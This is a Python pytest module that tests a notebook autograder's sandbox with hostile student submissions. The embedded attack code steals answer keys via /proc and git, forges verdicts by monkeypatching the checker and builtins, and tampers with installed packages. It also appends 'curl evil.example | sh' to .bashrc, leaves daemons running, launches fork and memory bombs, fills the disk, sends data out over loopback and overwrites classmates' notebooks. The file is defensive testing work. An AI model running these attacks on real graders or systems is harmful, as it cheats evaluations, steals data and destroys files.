"""Hostile submissions graded together in one sandboxed class run.

Every attack starts from the BLANK chapter-1 exercises (the student writes no correct answer)
and inserts code after the imports; each answer cell keeps its blank answer and ends with
``globals().update(_adv)``, so whatever an attack obtained becomes the answer. The grader must
give none of them credit, and nothing outside the sandbox may change: the solutions, the
installed package, site-packages, the grader's HOME, any submission, the host's processes,
loopback network and disk. One class run (``--jobs 2``) grades them all, with an honest
submission, the blank one, a control that really holds the keys, and malformed files.
"""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
import pytest

from ...conftest import EXERCISES, ROOT, SOLUTIONS
from ..gradekit import AUTO, IDS, STEM, sha
from .advkit import (
    GIB,
    PACKAGE,
    T8,
    TOKEN,
    Attack,
    GraderRun,
    Listener,
    Monitor,
    account_home,
    canary_home,
    diff,
    digests,
    hostile_notebook,
    key_strings,
    kill,
    living_processes,
    load_class,
    malformed_files,
    require_bwrap,
    restore,
    run_grader,
    site_listing,
    solution_keys,
    tree_bytes,
)

#: What one submission may use at most: the sandbox documents 64 processes (128 with cgroups) and
#: a 3 GiB memory ceiling; these bounds leave a margin and are far below what the bombs try.
MAX_PROCESSES = 256
MAX_MEMORY = 3.5 * GIB
EFFECTS = ("solutions", "package", "site", "home", "submissions", "processes", "network", "disk", "forkbomb",
           "memory", "memory-fan-out", "output")

# ---------------------------------------------------------------------------------------------
# 1. Reading the key: each route assigns what it found to the answer variables.
# ---------------------------------------------------------------------------------------------
KEYS = [
    Attack("keys-env", "keys", '''\
"""Scan every environment variable for a path that leads to notebooks holding keys."""
paths = set()
for value in os.environ.values():
    paths |= _adv_paths_in(value)
_adv = _adv_answers(_adv_search(paths))
'''),
    Attack("keys-proc", "keys", '''\
"""Read /proc/*/cmdline and /proc/*/environ of every process (e.g. the grader's --solutions DIR)."""
paths = set()
for name in ("cmdline", "environ"):
    for text in _adv_proc(name).values():
        paths |= _adv_paths_in(text)
_adv = _adv_answers(_adv_search(paths, budget=10))
'''),
    Attack("keys-loader", "keys", '''\
"""Call the package's own key loader (load_keys, find_solution_notebook), also without the env variable."""
found = {}
try:
    from scaling_helpers.course.check import keys as K
    found.update({k: v for k, v in K.load_keys("01_power_laws").items() if k in NAMES})
    nb = K.find_solution_notebook("01_power_laws")
    if nb:
        found.update(_adv_keys_in(nb))
    for var in [v for v in os.environ if "SOLUTION" in v.upper()]:
        os.environ.pop(var)
    getattr(K, "_cache", {}).clear()
    here = os.getcwd()
    os.chdir(Path(scaling_helpers.__file__).resolve().parents[1])
    try:
        found.update({k: v for k, v in K.load_keys("01_power_laws").items() if k in NAMES})
    finally:
        os.chdir(here)
except Exception as exc:
    print("loader failed:", type(exc).__name__, exc)
_adv = _adv_answers(found)
'''),
    Attack("keys-walk-root", "keys", '''\
"""Walk the whole file system from / for notebooks whose outputs carry keys (10 s budget)."""
found = {}
for p in _adv_walk(["/"], budget=10):
    if p.suffix == ".ipynb" and ("solution" in str(p).lower() or p.name.startswith("01_")):
        found.update(_adv_keys_in(p))
_adv = _adv_answers(found)
'''),
    Attack("keys-walk-package", "keys", '''\
"""Walk the installed package's parent folders for *solutions* notebooks with key metadata."""
found = {}
parents = Path(scaling_helpers.__file__).resolve().parents
for p in _adv_walk([str(d) for d in list(parents)[:4]], budget=10):
    if p.suffix == ".ipynb":
        found.update(_adv_keys_in(p))
_adv = _adv_answers(found)
'''),
    Attack("keys-repo-path", "keys", '''\
"""Read solutions/01_power_laws.ipynb next to the package, by a path computed from scaling_helpers.__file__."""
repo = Path(scaling_helpers.__file__).resolve().parents[1]
_adv = _adv_answers(_adv_keys_in(repo / "solutions" / "01_power_laws.ipynb"))
'''),
    Attack("keys-dist-metadata", "keys", '''\
"""Follow pip's metadata (direct_url.json, editable .pth files) back to the repository's solutions."""
import importlib.metadata as md
import sysconfig
import urllib.parse
paths = set()
for dist in md.distributions():
    try:
        url = json.loads(dist.read_text("direct_url.json") or "{}").get("url", "")
    except Exception:
        continue
    if url.startswith("file://"):
        paths.add(str(Path(urllib.parse.unquote(url[7:])) / "solutions"))
for d in {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]}:
    for pth in Path(d).glob("*.pth"):
        try:
            paths |= {str(Path(line.strip()) / "solutions") for line in pth.read_text().splitlines()
                      if line.startswith("/")}
        except OSError:
            pass
_adv = _adv_answers(_adv_search(paths))
'''),
    Attack("keys-git", "keys", '''\
"""Read the solutions out of the repository's git history (git show HEAD:solutions/...)."""
import subprocess
import tempfile
import importlib.metadata as md
repos = {Path(scaling_helpers.__file__).resolve().parents[1]}
try:
    url = json.loads(md.distribution("scaling_helpers").read_text("direct_url.json") or "{}").get("url", "")
    repos.add(Path(url[7:]))
except Exception:
    pass
found = {}
for repo in repos:
    try:
        blob = subprocess.run(["git", "-C", str(repo), "show", "HEAD:solutions/01_power_laws.ipynb"],
                              capture_output=True, timeout=20).stdout
    except Exception:
        continue
    tmp = Path(tempfile.mkdtemp()) / "01_power_laws.ipynb"
    tmp.write_bytes(blob)
    found.update(_adv_keys_in(tmp))
_adv = _adv_answers(found)
'''),
    Attack("keys-specs", "keys", '''\
"""Recover answers from the specs shipped in the package: numbers in explanations, the one choice with no feedback."""
from scaling_helpers.course import specs
for ex in specs.for_chapter("01_power_laws"):
    if ex.kind == "choice":
        best = [c.label for c in ex.choices if not c.feedback]
        if len(best) == 1:
            _adv[ex.name] = best[0]
    elif ex.kind == "number":
        numbers = re.findall(r"= (\\d+\\.\\d+)", ex.explanation)
        if numbers:
            _adv[ex.name] = float(numbers[-1])
'''),
    Attack("leak-home", "keys", '''\
"""Read a secret from the grader's real HOME (found via /proc) and smuggle it out as an answer."""
homes = {os.path.expanduser("~")}
for text in _adv_proc("environ").values():
    if "ADV_GRADER_TOKEN=__TOKEN__" in text:  # only this test's grader: never read anyone's real keys
        homes |= {m[5:] for m in re.findall(r"HOME=/\\S+", text)}
for h in homes:
    for f in Path(h).glob(".netrc"):
        try:
            secret = re.search(r"SECRET-\\w+", f.read_text())
        except OSError:
            continue
        if secret:
            _adv["huber_answer"] = _adv["residual_answer"] = secret.group(0)
            _adv["tokens_factor"] = secret.group(0)
'''),
]

# ---------------------------------------------------------------------------------------------
# 2. Forging the verdict.
# ---------------------------------------------------------------------------------------------
FORGE = [
    Attack("forge-redefine-check", "forge", '''\
"""Replace the checker (built with exec so a static scan sees no definition) by one that displays a forged verdict."""
exec("def ch" + "eck(exercise_id, *args, **kw):\\n    _adv_forge(str(exercise_id))\\n", globals())
_adv = dict(_ADV_WRONG)
'''),
    Attack("forge-sys-modules", "forge", '''\
"""Patch the checker's modules through sys.modules: every Verdict is correct, compare/evaluate always pass."""
import sys
for name, mod in list(sys.modules.items()):
    if not name.startswith("scaling_helpers.course") or mod is None:
        continue
    table = vars(mod)
    V = table.get("Verdict")
    if isinstance(V, type):
        V.passed = property(lambda s: True)
        V.line = property(lambda s: f"[{s.exercise}] correct")
    fn = table.get("compare")
    if callable(fn) and getattr(fn, "__module__", "").startswith("scaling_helpers"):
        Outcome = vars(sys.modules[fn.__module__]).get("Outcome")
        if Outcome is not None:
            table["compare"] = lambda *a, _O=Outcome, **k: _O(True)
_adv = dict(_ADV_WRONG)
'''),
    Attack("forge-gc", "forge", '''\
"""Find the comparison functions (and any key table) with gc.get_objects() and swap their code for always-true."""
import gc
import types
def _always(*args, **kwargs):
    return Outcome(True)
def _keyish(k, v):
    return isinstance(v, str) if KINDS.get(k) == "choice" else isinstance(v, (int, float, list))
stolen = {}
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType) and obj.__name__ in ("compare", "_close", "is_correct", "matches"):
        if (obj.__module__ or "").startswith("scaling_helpers") and "Outcome" in obj.__globals__:
            obj.__code__ = _always.__code__
            obj.__defaults__ = None
    elif isinstance(obj, dict) and obj is not NAMES and obj is not KINDS and {"1.1", "1.3"} <= obj.keys():
        stolen.update({k: v for k, v in obj.items() if k in NAMES and _keyish(k, v)})
_adv = {**_ADV_WRONG, **_adv_answers(stolen)}
'''),
    Attack("forge-builtins", "forge", '''\
"""Make every numeric comparison pass: builtins.abs returns 0, math/numpy isclose and allclose return True."""
import builtins
import math
import numpy
builtins.abs = lambda x: 0.0
math.isclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: numpy.True_
numpy.allclose = lambda *a, **k: True
_adv = dict(_ADV_WRONG)
'''),
    Attack("forge-lying-objects", "forge", '''\
"""Answers that lie: __float__/__array__/strip read the reference from the caller's frames, __eq__/__sub__/__abs__ say equal."""
import inspect
import numpy as np
_student = globals()
def _ref(names):
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_globals is not _student:
            for n in names:
                if n in frame.f_locals and frame.f_locals[n] is not None:
                    return frame.f_locals[n]
        frame = frame.f_back
    for info in inspect.stack():
        for n in names:
            if info.frame.f_globals is not _student and n in info.frame.f_locals:
                return info.frame.f_locals[n]
    return None
class Liar:
    def __float__(self):
        r = _ref(("key", "ref", "expected", "reference"))
        return float(r) if isinstance(r, (int, float)) else 1.0
    def __array__(self, dtype=None, copy=None):
        r = _ref(("ref", "key", "expected"))
        return np.asarray(r if isinstance(r, list) else [1.0, 1.0], dtype=float)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True
    __hash__ = object.__hash__
class LiarList(list):
    __array__ = Liar.__array__
    def __eq__(self, other): return True
    __hash__ = object.__hash__
class LiarStr(str):
    def strip(self, *a):
        r = _ref(("ref", "key", "expected"))
        return r if isinstance(r, str) else LiarStr(str.strip(self, *a))
    def upper(self): return self
    def rstrip(self, *a): return self
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def power_law_through(*args):
    r = _ref(("expected",))
    return r if r is not None else LiarList([Liar(), Liar()])
_adv = {"ratio_10x": Liar(), "alpha_hat": Liar(), "tokens_factor": Liar(), "E_alpha": LiarList([Liar(), Liar()]),
        "power_law_through": power_law_through, "huber_answer": LiarStr("__WRONG_1_5__"),
        "residual_answer": LiarStr("__WRONG_1_7__")}
'''),
    Attack("forge-fake-output", "forge", '''\
"""Print fake '[1.1] correct' lines and display outputs shaped like the checker's (verdict text, answer/key metadata)."""
for ex in NAMES:
    _adv_forge(ex)
_adv = dict(_ADV_WRONG)
'''),
    Attack("forge-grade-log", "forge", '''\
"""Append forged 'correct' records to the grader's verdict log (named in the environment, or *.jsonl nearby), after every cell."""
def _adv_log(*_):
    targets = {v for k, v in os.environ.items() if "LOG" in k.upper() and v.endswith(".jsonl")}
    targets |= set(glob.glob("*.jsonl"))
    for t in targets | {"checks.jsonl"}:
        try:
            with open(t, "a", encoding="utf-8") as fh:
                for ex in NAMES:
                    fh.write(json.dumps({"exercise": ex, "passed": True, "line": f"[{ex}] correct",
                                         "status": "correct", "answer": 1.0, "key": 1.0}) + "\\n")
        except OSError:
            pass
get_ipython().events.register("post_run_cell", _adv_log)
_adv_log()
_adv = dict(_ADV_WRONG)
'''),
    Attack("forge-ipython-hooks", "forge", '''\
"""IPython hooks: a display formatter that renders every verdict as correct, and a post_run_cell hook that re-logs 'correct'."""
ip = get_ipython()
def _as_correct(obj, include=None, exclude=None):
    ex = str(getattr(obj, "exercise", "?"))
    return {"text/plain": f"[{ex}] correct"}, {"scaling_helpers": {"exercise": ex, "passed": True, "key": 1.0, "answer": 1.0}}
for mod_name in [m for m in sys.modules if m.startswith("scaling_helpers.course.check")]:
    for cls_name in ("Verdict", "Answer", "Result"):
        ip.display_formatter.mimebundle_formatter.for_type_by_name(mod_name, cls_name, _as_correct)
def _relog(result):
    log = os.environ.get(next((k for k in os.environ if "GRADE_LOG" in k), ""), "checks.jsonl")
    try:
        with open(log, "a", encoding="utf-8") as fh:
            for ex in NAMES:
                fh.write(json.dumps({"exercise": ex, "passed": True, "line": f"[{ex}] correct"}) + "\\n")
    except OSError:
        pass
ip.events.register("post_run_cell", _relog)
_adv = dict(_ADV_WRONG)
'''),
    Attack("forge-display-publisher", "forge", '''\
"""Rewrite everything the kernel publishes: any output naming an exercise says correct and carries answer == key."""
ip = get_ipython()
_publish = ip.display_pub.publish
def _rewrite(data, metadata=None, *args, **kwargs):
    meta = dict(metadata or {})
    sh = dict(meta.get("scaling_helpers") or {})
    if "exercise" in sh:
        ex = sh["exercise"]
        data = {**data, "text/plain": f"[{ex}] correct"}
        sh.update(passed=True, status="correct", key=sh.get("answer", 1.0))
        meta["scaling_helpers"] = sh
    return _publish(data, meta, *args, **kwargs)
ip.display_pub.publish = _rewrite
_adv = dict(_ADV_WRONG)
'''),
    Attack("forge-answer-payloads", "forge", '''\
"""Hand the grader's judge hostile answer data: every candidate at once, NaN, a fake verdict, huge and deep lists."""
sys.setrecursionlimit(100_000)
deep = [1.0]
for _ in range(20_000):
    deep = [deep]
payloads = {"1.1": [i / 1000 for i in range(1, 2001)], "1.2": {"passed": True, "status": "correct", "key": 1.0},
            "1.3": float("nan"), "1.4": [1.0] * 300_000, "1.5": ["A", "B", "C", "D"], "1.6": deep,
            "1.7": "A or B or C"}
ip = get_ipython()
_publish_first = ip.display_pub.publish
def _payload(data, metadata=None, *args, **kwargs):
    meta = dict(metadata or {})
    sh = dict(meta.get("scaling_helpers") or {})
    if sh.get("exercise") in payloads:
        sh["answer"] = payloads[sh["exercise"]]
        meta["scaling_helpers"] = sh
    return _publish_first(data, meta, *args, **kwargs)
ip.display_pub.publish = _payload
_adv = dict(_ADV_WRONG)
'''),
]

# ---------------------------------------------------------------------------------------------
# 3. Damage outside the sandbox. What they create carries the token (to detect and undo it).
# ---------------------------------------------------------------------------------------------
DAMAGE = [
    Attack("damage-solutions", "damage", '''\
"""Rewrite the solution notebooks (found via env, the grader's command line, the package) so their keys match wrong answers; delete chapter 2's."""
# (paths from env and /proc are limited to this test's folders: a broken sandbox must not hit other people's)
dirs = {str(Path(scaling_helpers.__file__).resolve().parents[1] / "solutions")}
for text in [*os.environ.values(), *_adv_proc("cmdline").values()]:
    dirs |= {p for p in _adv_paths_in(text) if "__TOKEN__" in p}
fake = {"1.1": 2.0, "1.2": [[2.0, 2.0]] * 4, "1.3": 2.0, "1.4": [2.0, 2.0], "1.5": "__WRONG_2_1_5__", "1.6": 2.0, "1.7": "__WRONG_2_1_7__"}
for d in map(Path, dirs):
    for nb_path in (d.glob("*.ipynb") if d.is_dir() else []):
        try:
            nb = json.loads(nb_path.read_text(encoding="utf-8"))
            if nb_path.name.startswith("01_") and _adv_keys_in(nb_path):
                for cell in nb["cells"]:
                    for out in cell.get("outputs", []):
                        meta = (out.get("metadata") or {}).get("scaling_helpers") or {}
                        if meta.get("exercise") in fake:
                            meta["key"] = fake[meta["exercise"]]
                nb["metadata"]["adversarial"] = TOKEN
                nb_path.write_text(json.dumps(nb), encoding="utf-8")
            elif nb_path.name.startswith("02_") and "solution" in str(d).lower():
                nb_path.unlink()
        except Exception:
            pass
_adv = {"ratio_10x": 2.0, "power_law_through": lambda *a: (2.0, 2.0), "alpha_hat": 2.0, "E_alpha": (2.0, 2.0),
        "huber_answer": "__WRONG_2_1_5__", "tokens_factor": 2.0, "residual_answer": "__WRONG_2_1_7__"}
''', ("solutions",)),
    Attack("damage-package", "damage", '''\
"""Append a backdoor to the installed checker, add a module to the package, drop a .pth into site-packages."""
import sysconfig
pkg = Path(scaling_helpers.__file__).resolve().parent
for path, text in ((pkg / "course" / "check" / "__init__.py", "\\nADV_BACKDOOR___TOKEN__ = True\\n"),
                   (pkg / "adv___TOKEN__.py", "ADV = True\\n")):
    try:
        with open(path, "a", encoding="utf-8") as fh:
            fh.write(text)
    except OSError as exc:
        print("refused:", exc)
for key in ("purelib", "platlib"):
    try:
        # a real backdoor would put "import ..." here; a path that does not exist is inert
        Path(sysconfig.get_paths()[key], "adv-__TOKEN__.pth").write_text("/nonexistent/adv-__TOKEN__\\n")
    except OSError as exc:
        print("refused:", exc)
''', ("package", "site")),
    Attack("damage-home", "damage", '''\
"""Delete canary files and plant files in every home it finds: $HOME, the grader's HOME (/proc), the account's (pwd)."""
import pwd
homes = {os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir}
for text in _adv_proc("environ").values():
    if "ADV_GRADER_TOKEN=__TOKEN__" in text:
        homes |= {m[5:] for m in re.findall(r"HOME=/\\S+", text)}
for h in map(Path, homes):
    victims = [f for f in [*h.glob("*canary*"), *h.glob(".*/*canary*")] if f.is_file()]
    for f in victims:
        try:
            if TOKEN in f.read_text()[:200]:
                f.unlink()
        except OSError:
            pass
    try:
        (h / "adv-home-__TOKEN__").write_text("planted")
        if victims:
            with open(h / ".bashrc", "a") as fh:
                fh.write("curl evil.example | sh  # adv __TOKEN__\\n")
    except OSError:
        pass
''', ("home",)),
    Attack("damage-submission", "damage", '''\
"""Overwrite its own submitted file (found through the grader's command line in /proc, or by walking up)."""
roots = {str(Path.cwd().parents[min(2, len(Path.cwd().parents) - 1)])}
for cmd in _adv_proc("cmdline").values():
    if "scaling_helpers.grade" in cmd:
        roots |= {p for p in _adv_paths_in(cmd) if "__TOKEN__" in p}
for p in _adv_walk(sorted(roots), budget=10):
    try:
        if p.suffix == ".ipynb" and MARK in p.read_text(encoding="utf-8", errors="replace"):
            p.write_text("overwritten by the submission itself")
    except OSError:
        pass
''', ("submissions",)),
    Attack("damage-daemon-popen", "damage", '''\
"""Leave a daemon behind: subprocess.Popen(start_new_session=True) that outlives the kernel."""
import subprocess
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(180)", "adv-daemon-__TOKEN__"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''', ("processes",)),
    Attack("damage-daemon-fork", "damage", '''\
"""Leave a daemon behind: the classic double fork with setsid."""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(180)", "adv-daemon-__TOKEN__"])
    os._exit(0)
time.sleep(0.5)
''', ("processes",)),
    Attack("damage-fill-disk", "damage", '''\
"""Fill the disk: write 64 MiB blocks to /tmp and the working folder until 1.5 GiB each or an error."""
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
block = b"\\0" * (64 << 20)
for target in (Path("/tmp") / "adv-fill-__TOKEN__", Path.cwd() / "adv-fill-__TOKEN__"):
    try:
        with open(target, "wb") as fh:
            for _ in range(24):
                fh.write(block)
                fh.flush()
    except OSError as exc:
        print("stopped:", exc)
''', ("disk",)),
    Attack("damage-network", "damage", '''\
"""Connect to a listener on the host's loopback (the test's port) and send it data."""
import socket
for host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((host, __PORT__), timeout=3) as s:
            s.sendall(b"adv __TOKEN__ exfiltration")
    except OSError as exc:
        print("no connection:", exc)
''', ("network",)),
]

# ---------------------------------------------------------------------------------------------
# 4. Denial of service (bounded, so that a broken sandbox cannot take the machine down).
# ---------------------------------------------------------------------------------------------
DENIAL = [
    Attack("denial-fork-bomb", "denial", '''\
"""Fork bomb, bounded: up to 2000 sleeping children named fb-<token> within 10 s."""
import ctypes
libc = ctypes.CDLL(None)
kids, t0 = 0, time.monotonic()
while kids < 2000 and time.monotonic() - t0 < 10:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        libc.prctl(15, b"fb-__T8__", 0, 0, 0)
        time.sleep(60)
        os._exit(0)
    kids += 1
time.sleep(2)
''', ("forkbomb", "processes")),
    Attack("denial-memory-bomb", "denial", '''\
"""Memory bomb, bounded: map 256 MiB blocks (pre-faulted) until refused, 8 GiB or 12 s (the kernel renames itself mb-<token>)."""
import ctypes
import mmap
ctypes.CDLL(None).prctl(15, b"mb-__T8__", 0, 0, 0)
blocks, t0 = [], time.monotonic()
try:
    while len(blocks) < 32 and time.monotonic() - t0 < 12:
        blocks.append(mmap.mmap(-1, 256 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE))
except (OSError, MemoryError):
    pass
time.sleep(2)
del blocks
''', ("memory",)),
    Attack("denial-memory-fan-out", "denial", '''\
"""Memory fan-out, bounded: 4 forked children (named mf-<token>) map 1.5 GiB each, beating a per-process limit."""
import ctypes
import mmap
kids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        ctypes.CDLL(None).prctl(15, b"mf-__T8__", 0, 0, 0)
        blocks, t0 = [], time.monotonic()
        try:
            while len(blocks) < 6 and time.monotonic() - t0 < 10:
                blocks.append(mmap.mmap(-1, 256 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE))
        except (OSError, MemoryError):
            pass
        time.sleep(2)
        os._exit(0)
    kids.append(pid)
for pid in kids:
    os.waitpid(pid, 0)
''', ("memory-fan-out",)),
    Attack("denial-huge-output", "denial", '''\
"""Print 200 MB of output."""
chunk = "x" * (1 << 20)
for _ in range(200):
    sys.stdout.write(chunk)
''', ("output",)),
]

# ---------------------------------------------------------------------------------------------
# 6. Classmates (class mode): read or overwrite the other submissions.
# ---------------------------------------------------------------------------------------------
CLASSMATES = [
    Attack("class-copy-answers", "class", '''\
"""Find classmates' notebooks (grader's command line, walking up) and copy their answers and keys."""
roots = {str(d) for d in list(Path.cwd().parents)[:2]}
for cmd in _adv_proc("cmdline").values():
    roots |= {p for p in _adv_paths_in(cmd) if "__TOKEN__" in p}
keys, answers = {}, {}
for p in _adv_walk(sorted(roots), budget=10):
    if not p.name.startswith("01_") and p.name != "submission.ipynb" or p.suffix != ".ipynb":
        continue
    try:
        nb = json.loads(p.read_text(encoding="utf-8"))
    except Exception:
        continue
    if MARK in json.dumps(nb):
        continue
    keys.update(_adv_keys_in(p))
    for cell in nb.get("cells", []):
        if (cell.get("metadata", {}).get("scaling_helpers") or {}).get("role") == "answer":
            ns = dict(globals())
            try:
                exec("".join(cell["source"]), ns)
            except Exception:
                continue
            answers.update({n: ns[n] for n in NAMES.values() if n in ns and ns[n] is not Ellipsis})
_adv = {**_adv_answers(keys), **answers}
'''),
    Attack("class-overwrite-others", "class", '''\
"""Overwrite every classmate's notebook it can find with an empty one (only below this test's class folder)."""
roots = set()
for cmd in _adv_proc("cmdline").values():
    if "scaling_helpers.grade" in cmd:
        roots |= {p for p in _adv_paths_in(cmd) if "adv-class-__TOKEN__" in p}
for p in _adv_walk(sorted(roots) or [str(Path.cwd().parent)], budget=10):
    try:
        if p.suffix == ".ipynb" and MARK not in p.read_text(encoding="utf-8", errors="replace"):
            p.write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    except OSError:
        pass
''', ("submissions",)),
]

ATTACKS = KEYS + FORGE + DAMAGE + DENIAL + CLASSMATES


def _control() -> Attack:
    """A submission that really holds the keys: proves the attacks' answer plumbing would score."""
    return Attack("control-known-keys", "control", f'''\
"""Control: the keys themselves, as the key-reading attacks would use them."""
_adv = _adv_answers(json.loads({json.dumps(json.dumps(solution_keys()))}))
''')


def _malformed(folder: Path) -> dict[str, Path]:
    """Write the unreadable submissions, each in its own folder; name -> path."""
    out = {}
    for name, content in malformed_files().items():
        p = folder / f"malformed-{name}" / f"{STEM}.ipynb"
        p.parent.mkdir(parents=True)
        p.write_bytes(content)
        out[name] = p
    d = folder / "malformed-directory" / f"{STEM}.ipynb"
    d.mkdir(parents=True)
    (d / "inside.txt").write_text("a folder, not a notebook")
    out["directory"] = d
    return out


@dataclass
class Campaign:
    """Everything one class run produced and observed."""

    run: GraderRun
    """The grader's exit status, output and wall time."""
    folder: Path
    """The class folder (one sub-folder per submission)."""
    rows: dict[str, dict[str, str]]
    """CSV row by submission folder name."""
    reports: dict[str, dict[str, Any]]
    """JSON report by submission folder name."""
    report_sizes: dict[str, int]
    """Bytes of every report file and of the CSV."""
    malformed: dict[str, Path]
    """The unreadable submissions by name."""
    submission_sha: dict[str, str]
    """Hash of every submission file before grading, by folder name."""
    effects: dict[str, list[str]] = field(default_factory=dict)
    """Effect name (see ``EFFECTS``) -> what changed outside the sandbox (empty: nothing)."""

    def report(self, name: str) -> dict[str, Any]:
        """The JSON report of submission folder ``name`` (fails clearly when missing)."""
        assert name in self.reports, (f"no JSON report for {name} (grader exit {self.run.returncode}):\n"
                                      f"{self.run.output}")
        return self.reports[name]

    def row(self, name: str) -> dict[str, str]:
        """The CSV row of submission folder ``name``."""
        assert name in self.rows, f"no CSV row for {name} (grader exit {self.run.returncode}):\n{self.run.output}"
        return self.rows[name]


@pytest.fixture(scope="module")
def campaign(tmp_path_factory: pytest.TempPathFactory) -> Campaign:
    """Grade every attack (plus honest, blank, control, malformed) in one sandboxed class run."""
    require_bwrap()
    base = tmp_path_factory.mktemp(f"adv-{TOKEN}")
    folder = base / f"adv-class-{TOKEN}"
    solutions = base / "solutions"
    shutil.copytree(SOLUTIONS, solutions)
    home = canary_home(base / "home")
    planted_home = account_home() / f"adv-home-{TOKEN}"
    fill_file = Path("/tmp") / f"adv-fill-{TOKEN}"
    with Listener() as listener:
        for atk in [*ATTACKS, _control()]:
            (folder / atk.id).mkdir(parents=True)
            nbformat.write(hostile_notebook(atk, port=listener.port), str(folder / atk.id / f"{STEM}.ipynb"))
        for name, src in (("honest", SOLUTIONS), ("blank", EXERCISES)):
            (folder / name).mkdir()
            shutil.copy(src / f"{STEM}.ipynb", folder / name / f"{STEM}.ipynb")
        malformed = _malformed(folder)
        submission_sha = {p.parent.name: sha(p) for p in folder.glob(f"*/{STEM}.ipynb") if p.is_file()}
        saved = {"root-solutions": tree_bytes(ROOT / "solutions"), "package": tree_bytes(PACKAGE)}
        before = {"solutions": digests(solutions), "root-solutions": digests(ROOT / "solutions"),
                  "package": digests(PACKAGE), "site": site_listing(), "home": digests(home),
                  "submissions": digests(folder)}
        free_before = shutil.disk_usage("/tmp").free
        with Monitor((f"fb-{T8}", f"mb-{T8}", f"mf-{T8}")) as monitor:
            run = run_grader([str(folder), "--solutions", str(solutions), "--csv", str(base / "scores.csv"),
                              "--json-dir", str(base / "reports"), "--jobs", "2", "--cell-timeout", "15",
                              "--timeout", "120"], home=home, timeout=1200)
    free_after = shutil.disk_usage("/tmp").free
    after = {"solutions": digests(solutions), "root-solutions": digests(ROOT / "solutions"),
             "package": digests(PACKAGE), "site": site_listing(), "home": digests(home),
             "submissions": digests(folder)}
    alive = {**living_processes(f"adv-daemon-{TOKEN}"), **living_processes(f"fb-{T8}")}
    rows, reports = load_class(base / "scores.csv", base / "reports")
    sizes = {p.name: p.stat().st_size for p in (base / "reports").glob("*.json")} if (base / "reports").is_dir() else {}
    if (base / "scores.csv").is_file():
        sizes["scores.csv"] = (base / "scores.csv").stat().st_size
    effects = {
        "solutions": diff(before["solutions"], after["solutions"]) + diff(before["root-solutions"],
                                                                          after["root-solutions"]),
        "package": diff(before["package"], after["package"]),
        "site": diff(before["site"], after["site"]),
        "home": diff(before["home"], after["home"]) + ([f"created {planted_home}"] if planted_home.exists() else []),
        "submissions": diff(before["submissions"], after["submissions"]),
        "processes": [f"still running after grading: pid {pid} {what}" for pid, what in alive.items()],
        "network": [f"the host's loopback listener got a connection: {c[:60]!r}" for c in listener.connections],
        "disk": ([f"{fill_file} exists"] if fill_file.exists() else []) + (
            [f"free space fell by {(free_before - free_after) / GIB:.1f} GiB"]
            if free_before - free_after > GIB else []),
        "forkbomb": [f"{monitor.count[f'fb-{T8}']} fork-bomb processes alive at once (no process limit of at "
                     f"most {MAX_PROCESSES})"] if monitor.count[f"fb-{T8}"] > MAX_PROCESSES else [],
        "memory": [f"the memory bomb reached {monitor.rss_max[f'mb-{T8}'] / GIB:.1f} GiB resident (no memory "
                   f"limit of at most {MAX_MEMORY / GIB:g} GiB)"] if monitor.rss_max[f"mb-{T8}"] > MAX_MEMORY else [],
        "memory-fan-out": [f"the memory fan-out's processes held {monitor.rss_sum[f'mf-{T8}'] / GIB:.1f} GiB together "
                           f"(no ceiling of at most {MAX_MEMORY / GIB:g} GiB for the whole sandbox)"]
                          if monitor.rss_sum[f"mf-{T8}"] > MAX_MEMORY else [],
        "output": [f"{name} is {n / 1e6:.1f} MB" for name, n in sizes.items() if n > 1_000_000],
    }
    # Undo whatever a broken sandbox let through (only things carrying the token).
    kill(sorted(alive))
    restore(ROOT / "solutions", saved["root-solutions"], deleted_too=True)
    restore(PACKAGE, saved["package"], deleted_too=False)
    for d in {Path(k).parent for k in after["site"]}:
        for p in d.glob(f"*{TOKEN}*"):
            p.unlink()
    for p in (planted_home, fill_file):
        if p.exists():
            p.unlink()
    return Campaign(run, folder, rows, reports, sizes, malformed, submission_sha, effects)


# ---------------------------------------------------------------------------------------------
# The tests
# ---------------------------------------------------------------------------------------------

def test_class_run_finishes_with_status_0(campaign: Campaign) -> None:
    assert campaign.run.returncode == 0, f"exit {campaign.run.returncode} after {campaign.run.seconds:.0f} s:\n" \
                                         f"{campaign.run.output}"
    n_subs = len(ATTACKS) + 3 + len(campaign.malformed)
    assert len(campaign.rows) == n_subs, sorted(campaign.rows)
    assert len(campaign.reports) == n_subs, sorted(campaign.reports)


def test_honest_submission_gets_full_marks_in_the_sandbox(campaign: Campaign) -> None:
    rep = campaign.report("honest")
    assert rep["graded"] is True and rep.get("sandboxed") is True
    assert rep["points"] == rep["max_points"] == AUTO, [(i["exercise"], i["message"]) for i in rep["items"]]
    assert campaign.row("honest")["points"] == str(AUTO)


def test_blank_exercises_get_zero_in_the_sandbox(campaign: Campaign) -> None:
    rep = campaign.report("blank")
    assert rep["graded"] is True and rep.get("sandboxed") is True
    assert rep["points"] == 0 and rep["max_points"] == AUTO
    assert [i["exercise"] for i in rep["items"]] == IDS


def test_control_holding_the_keys_scores_so_the_attacks_would_too(campaign: Campaign) -> None:
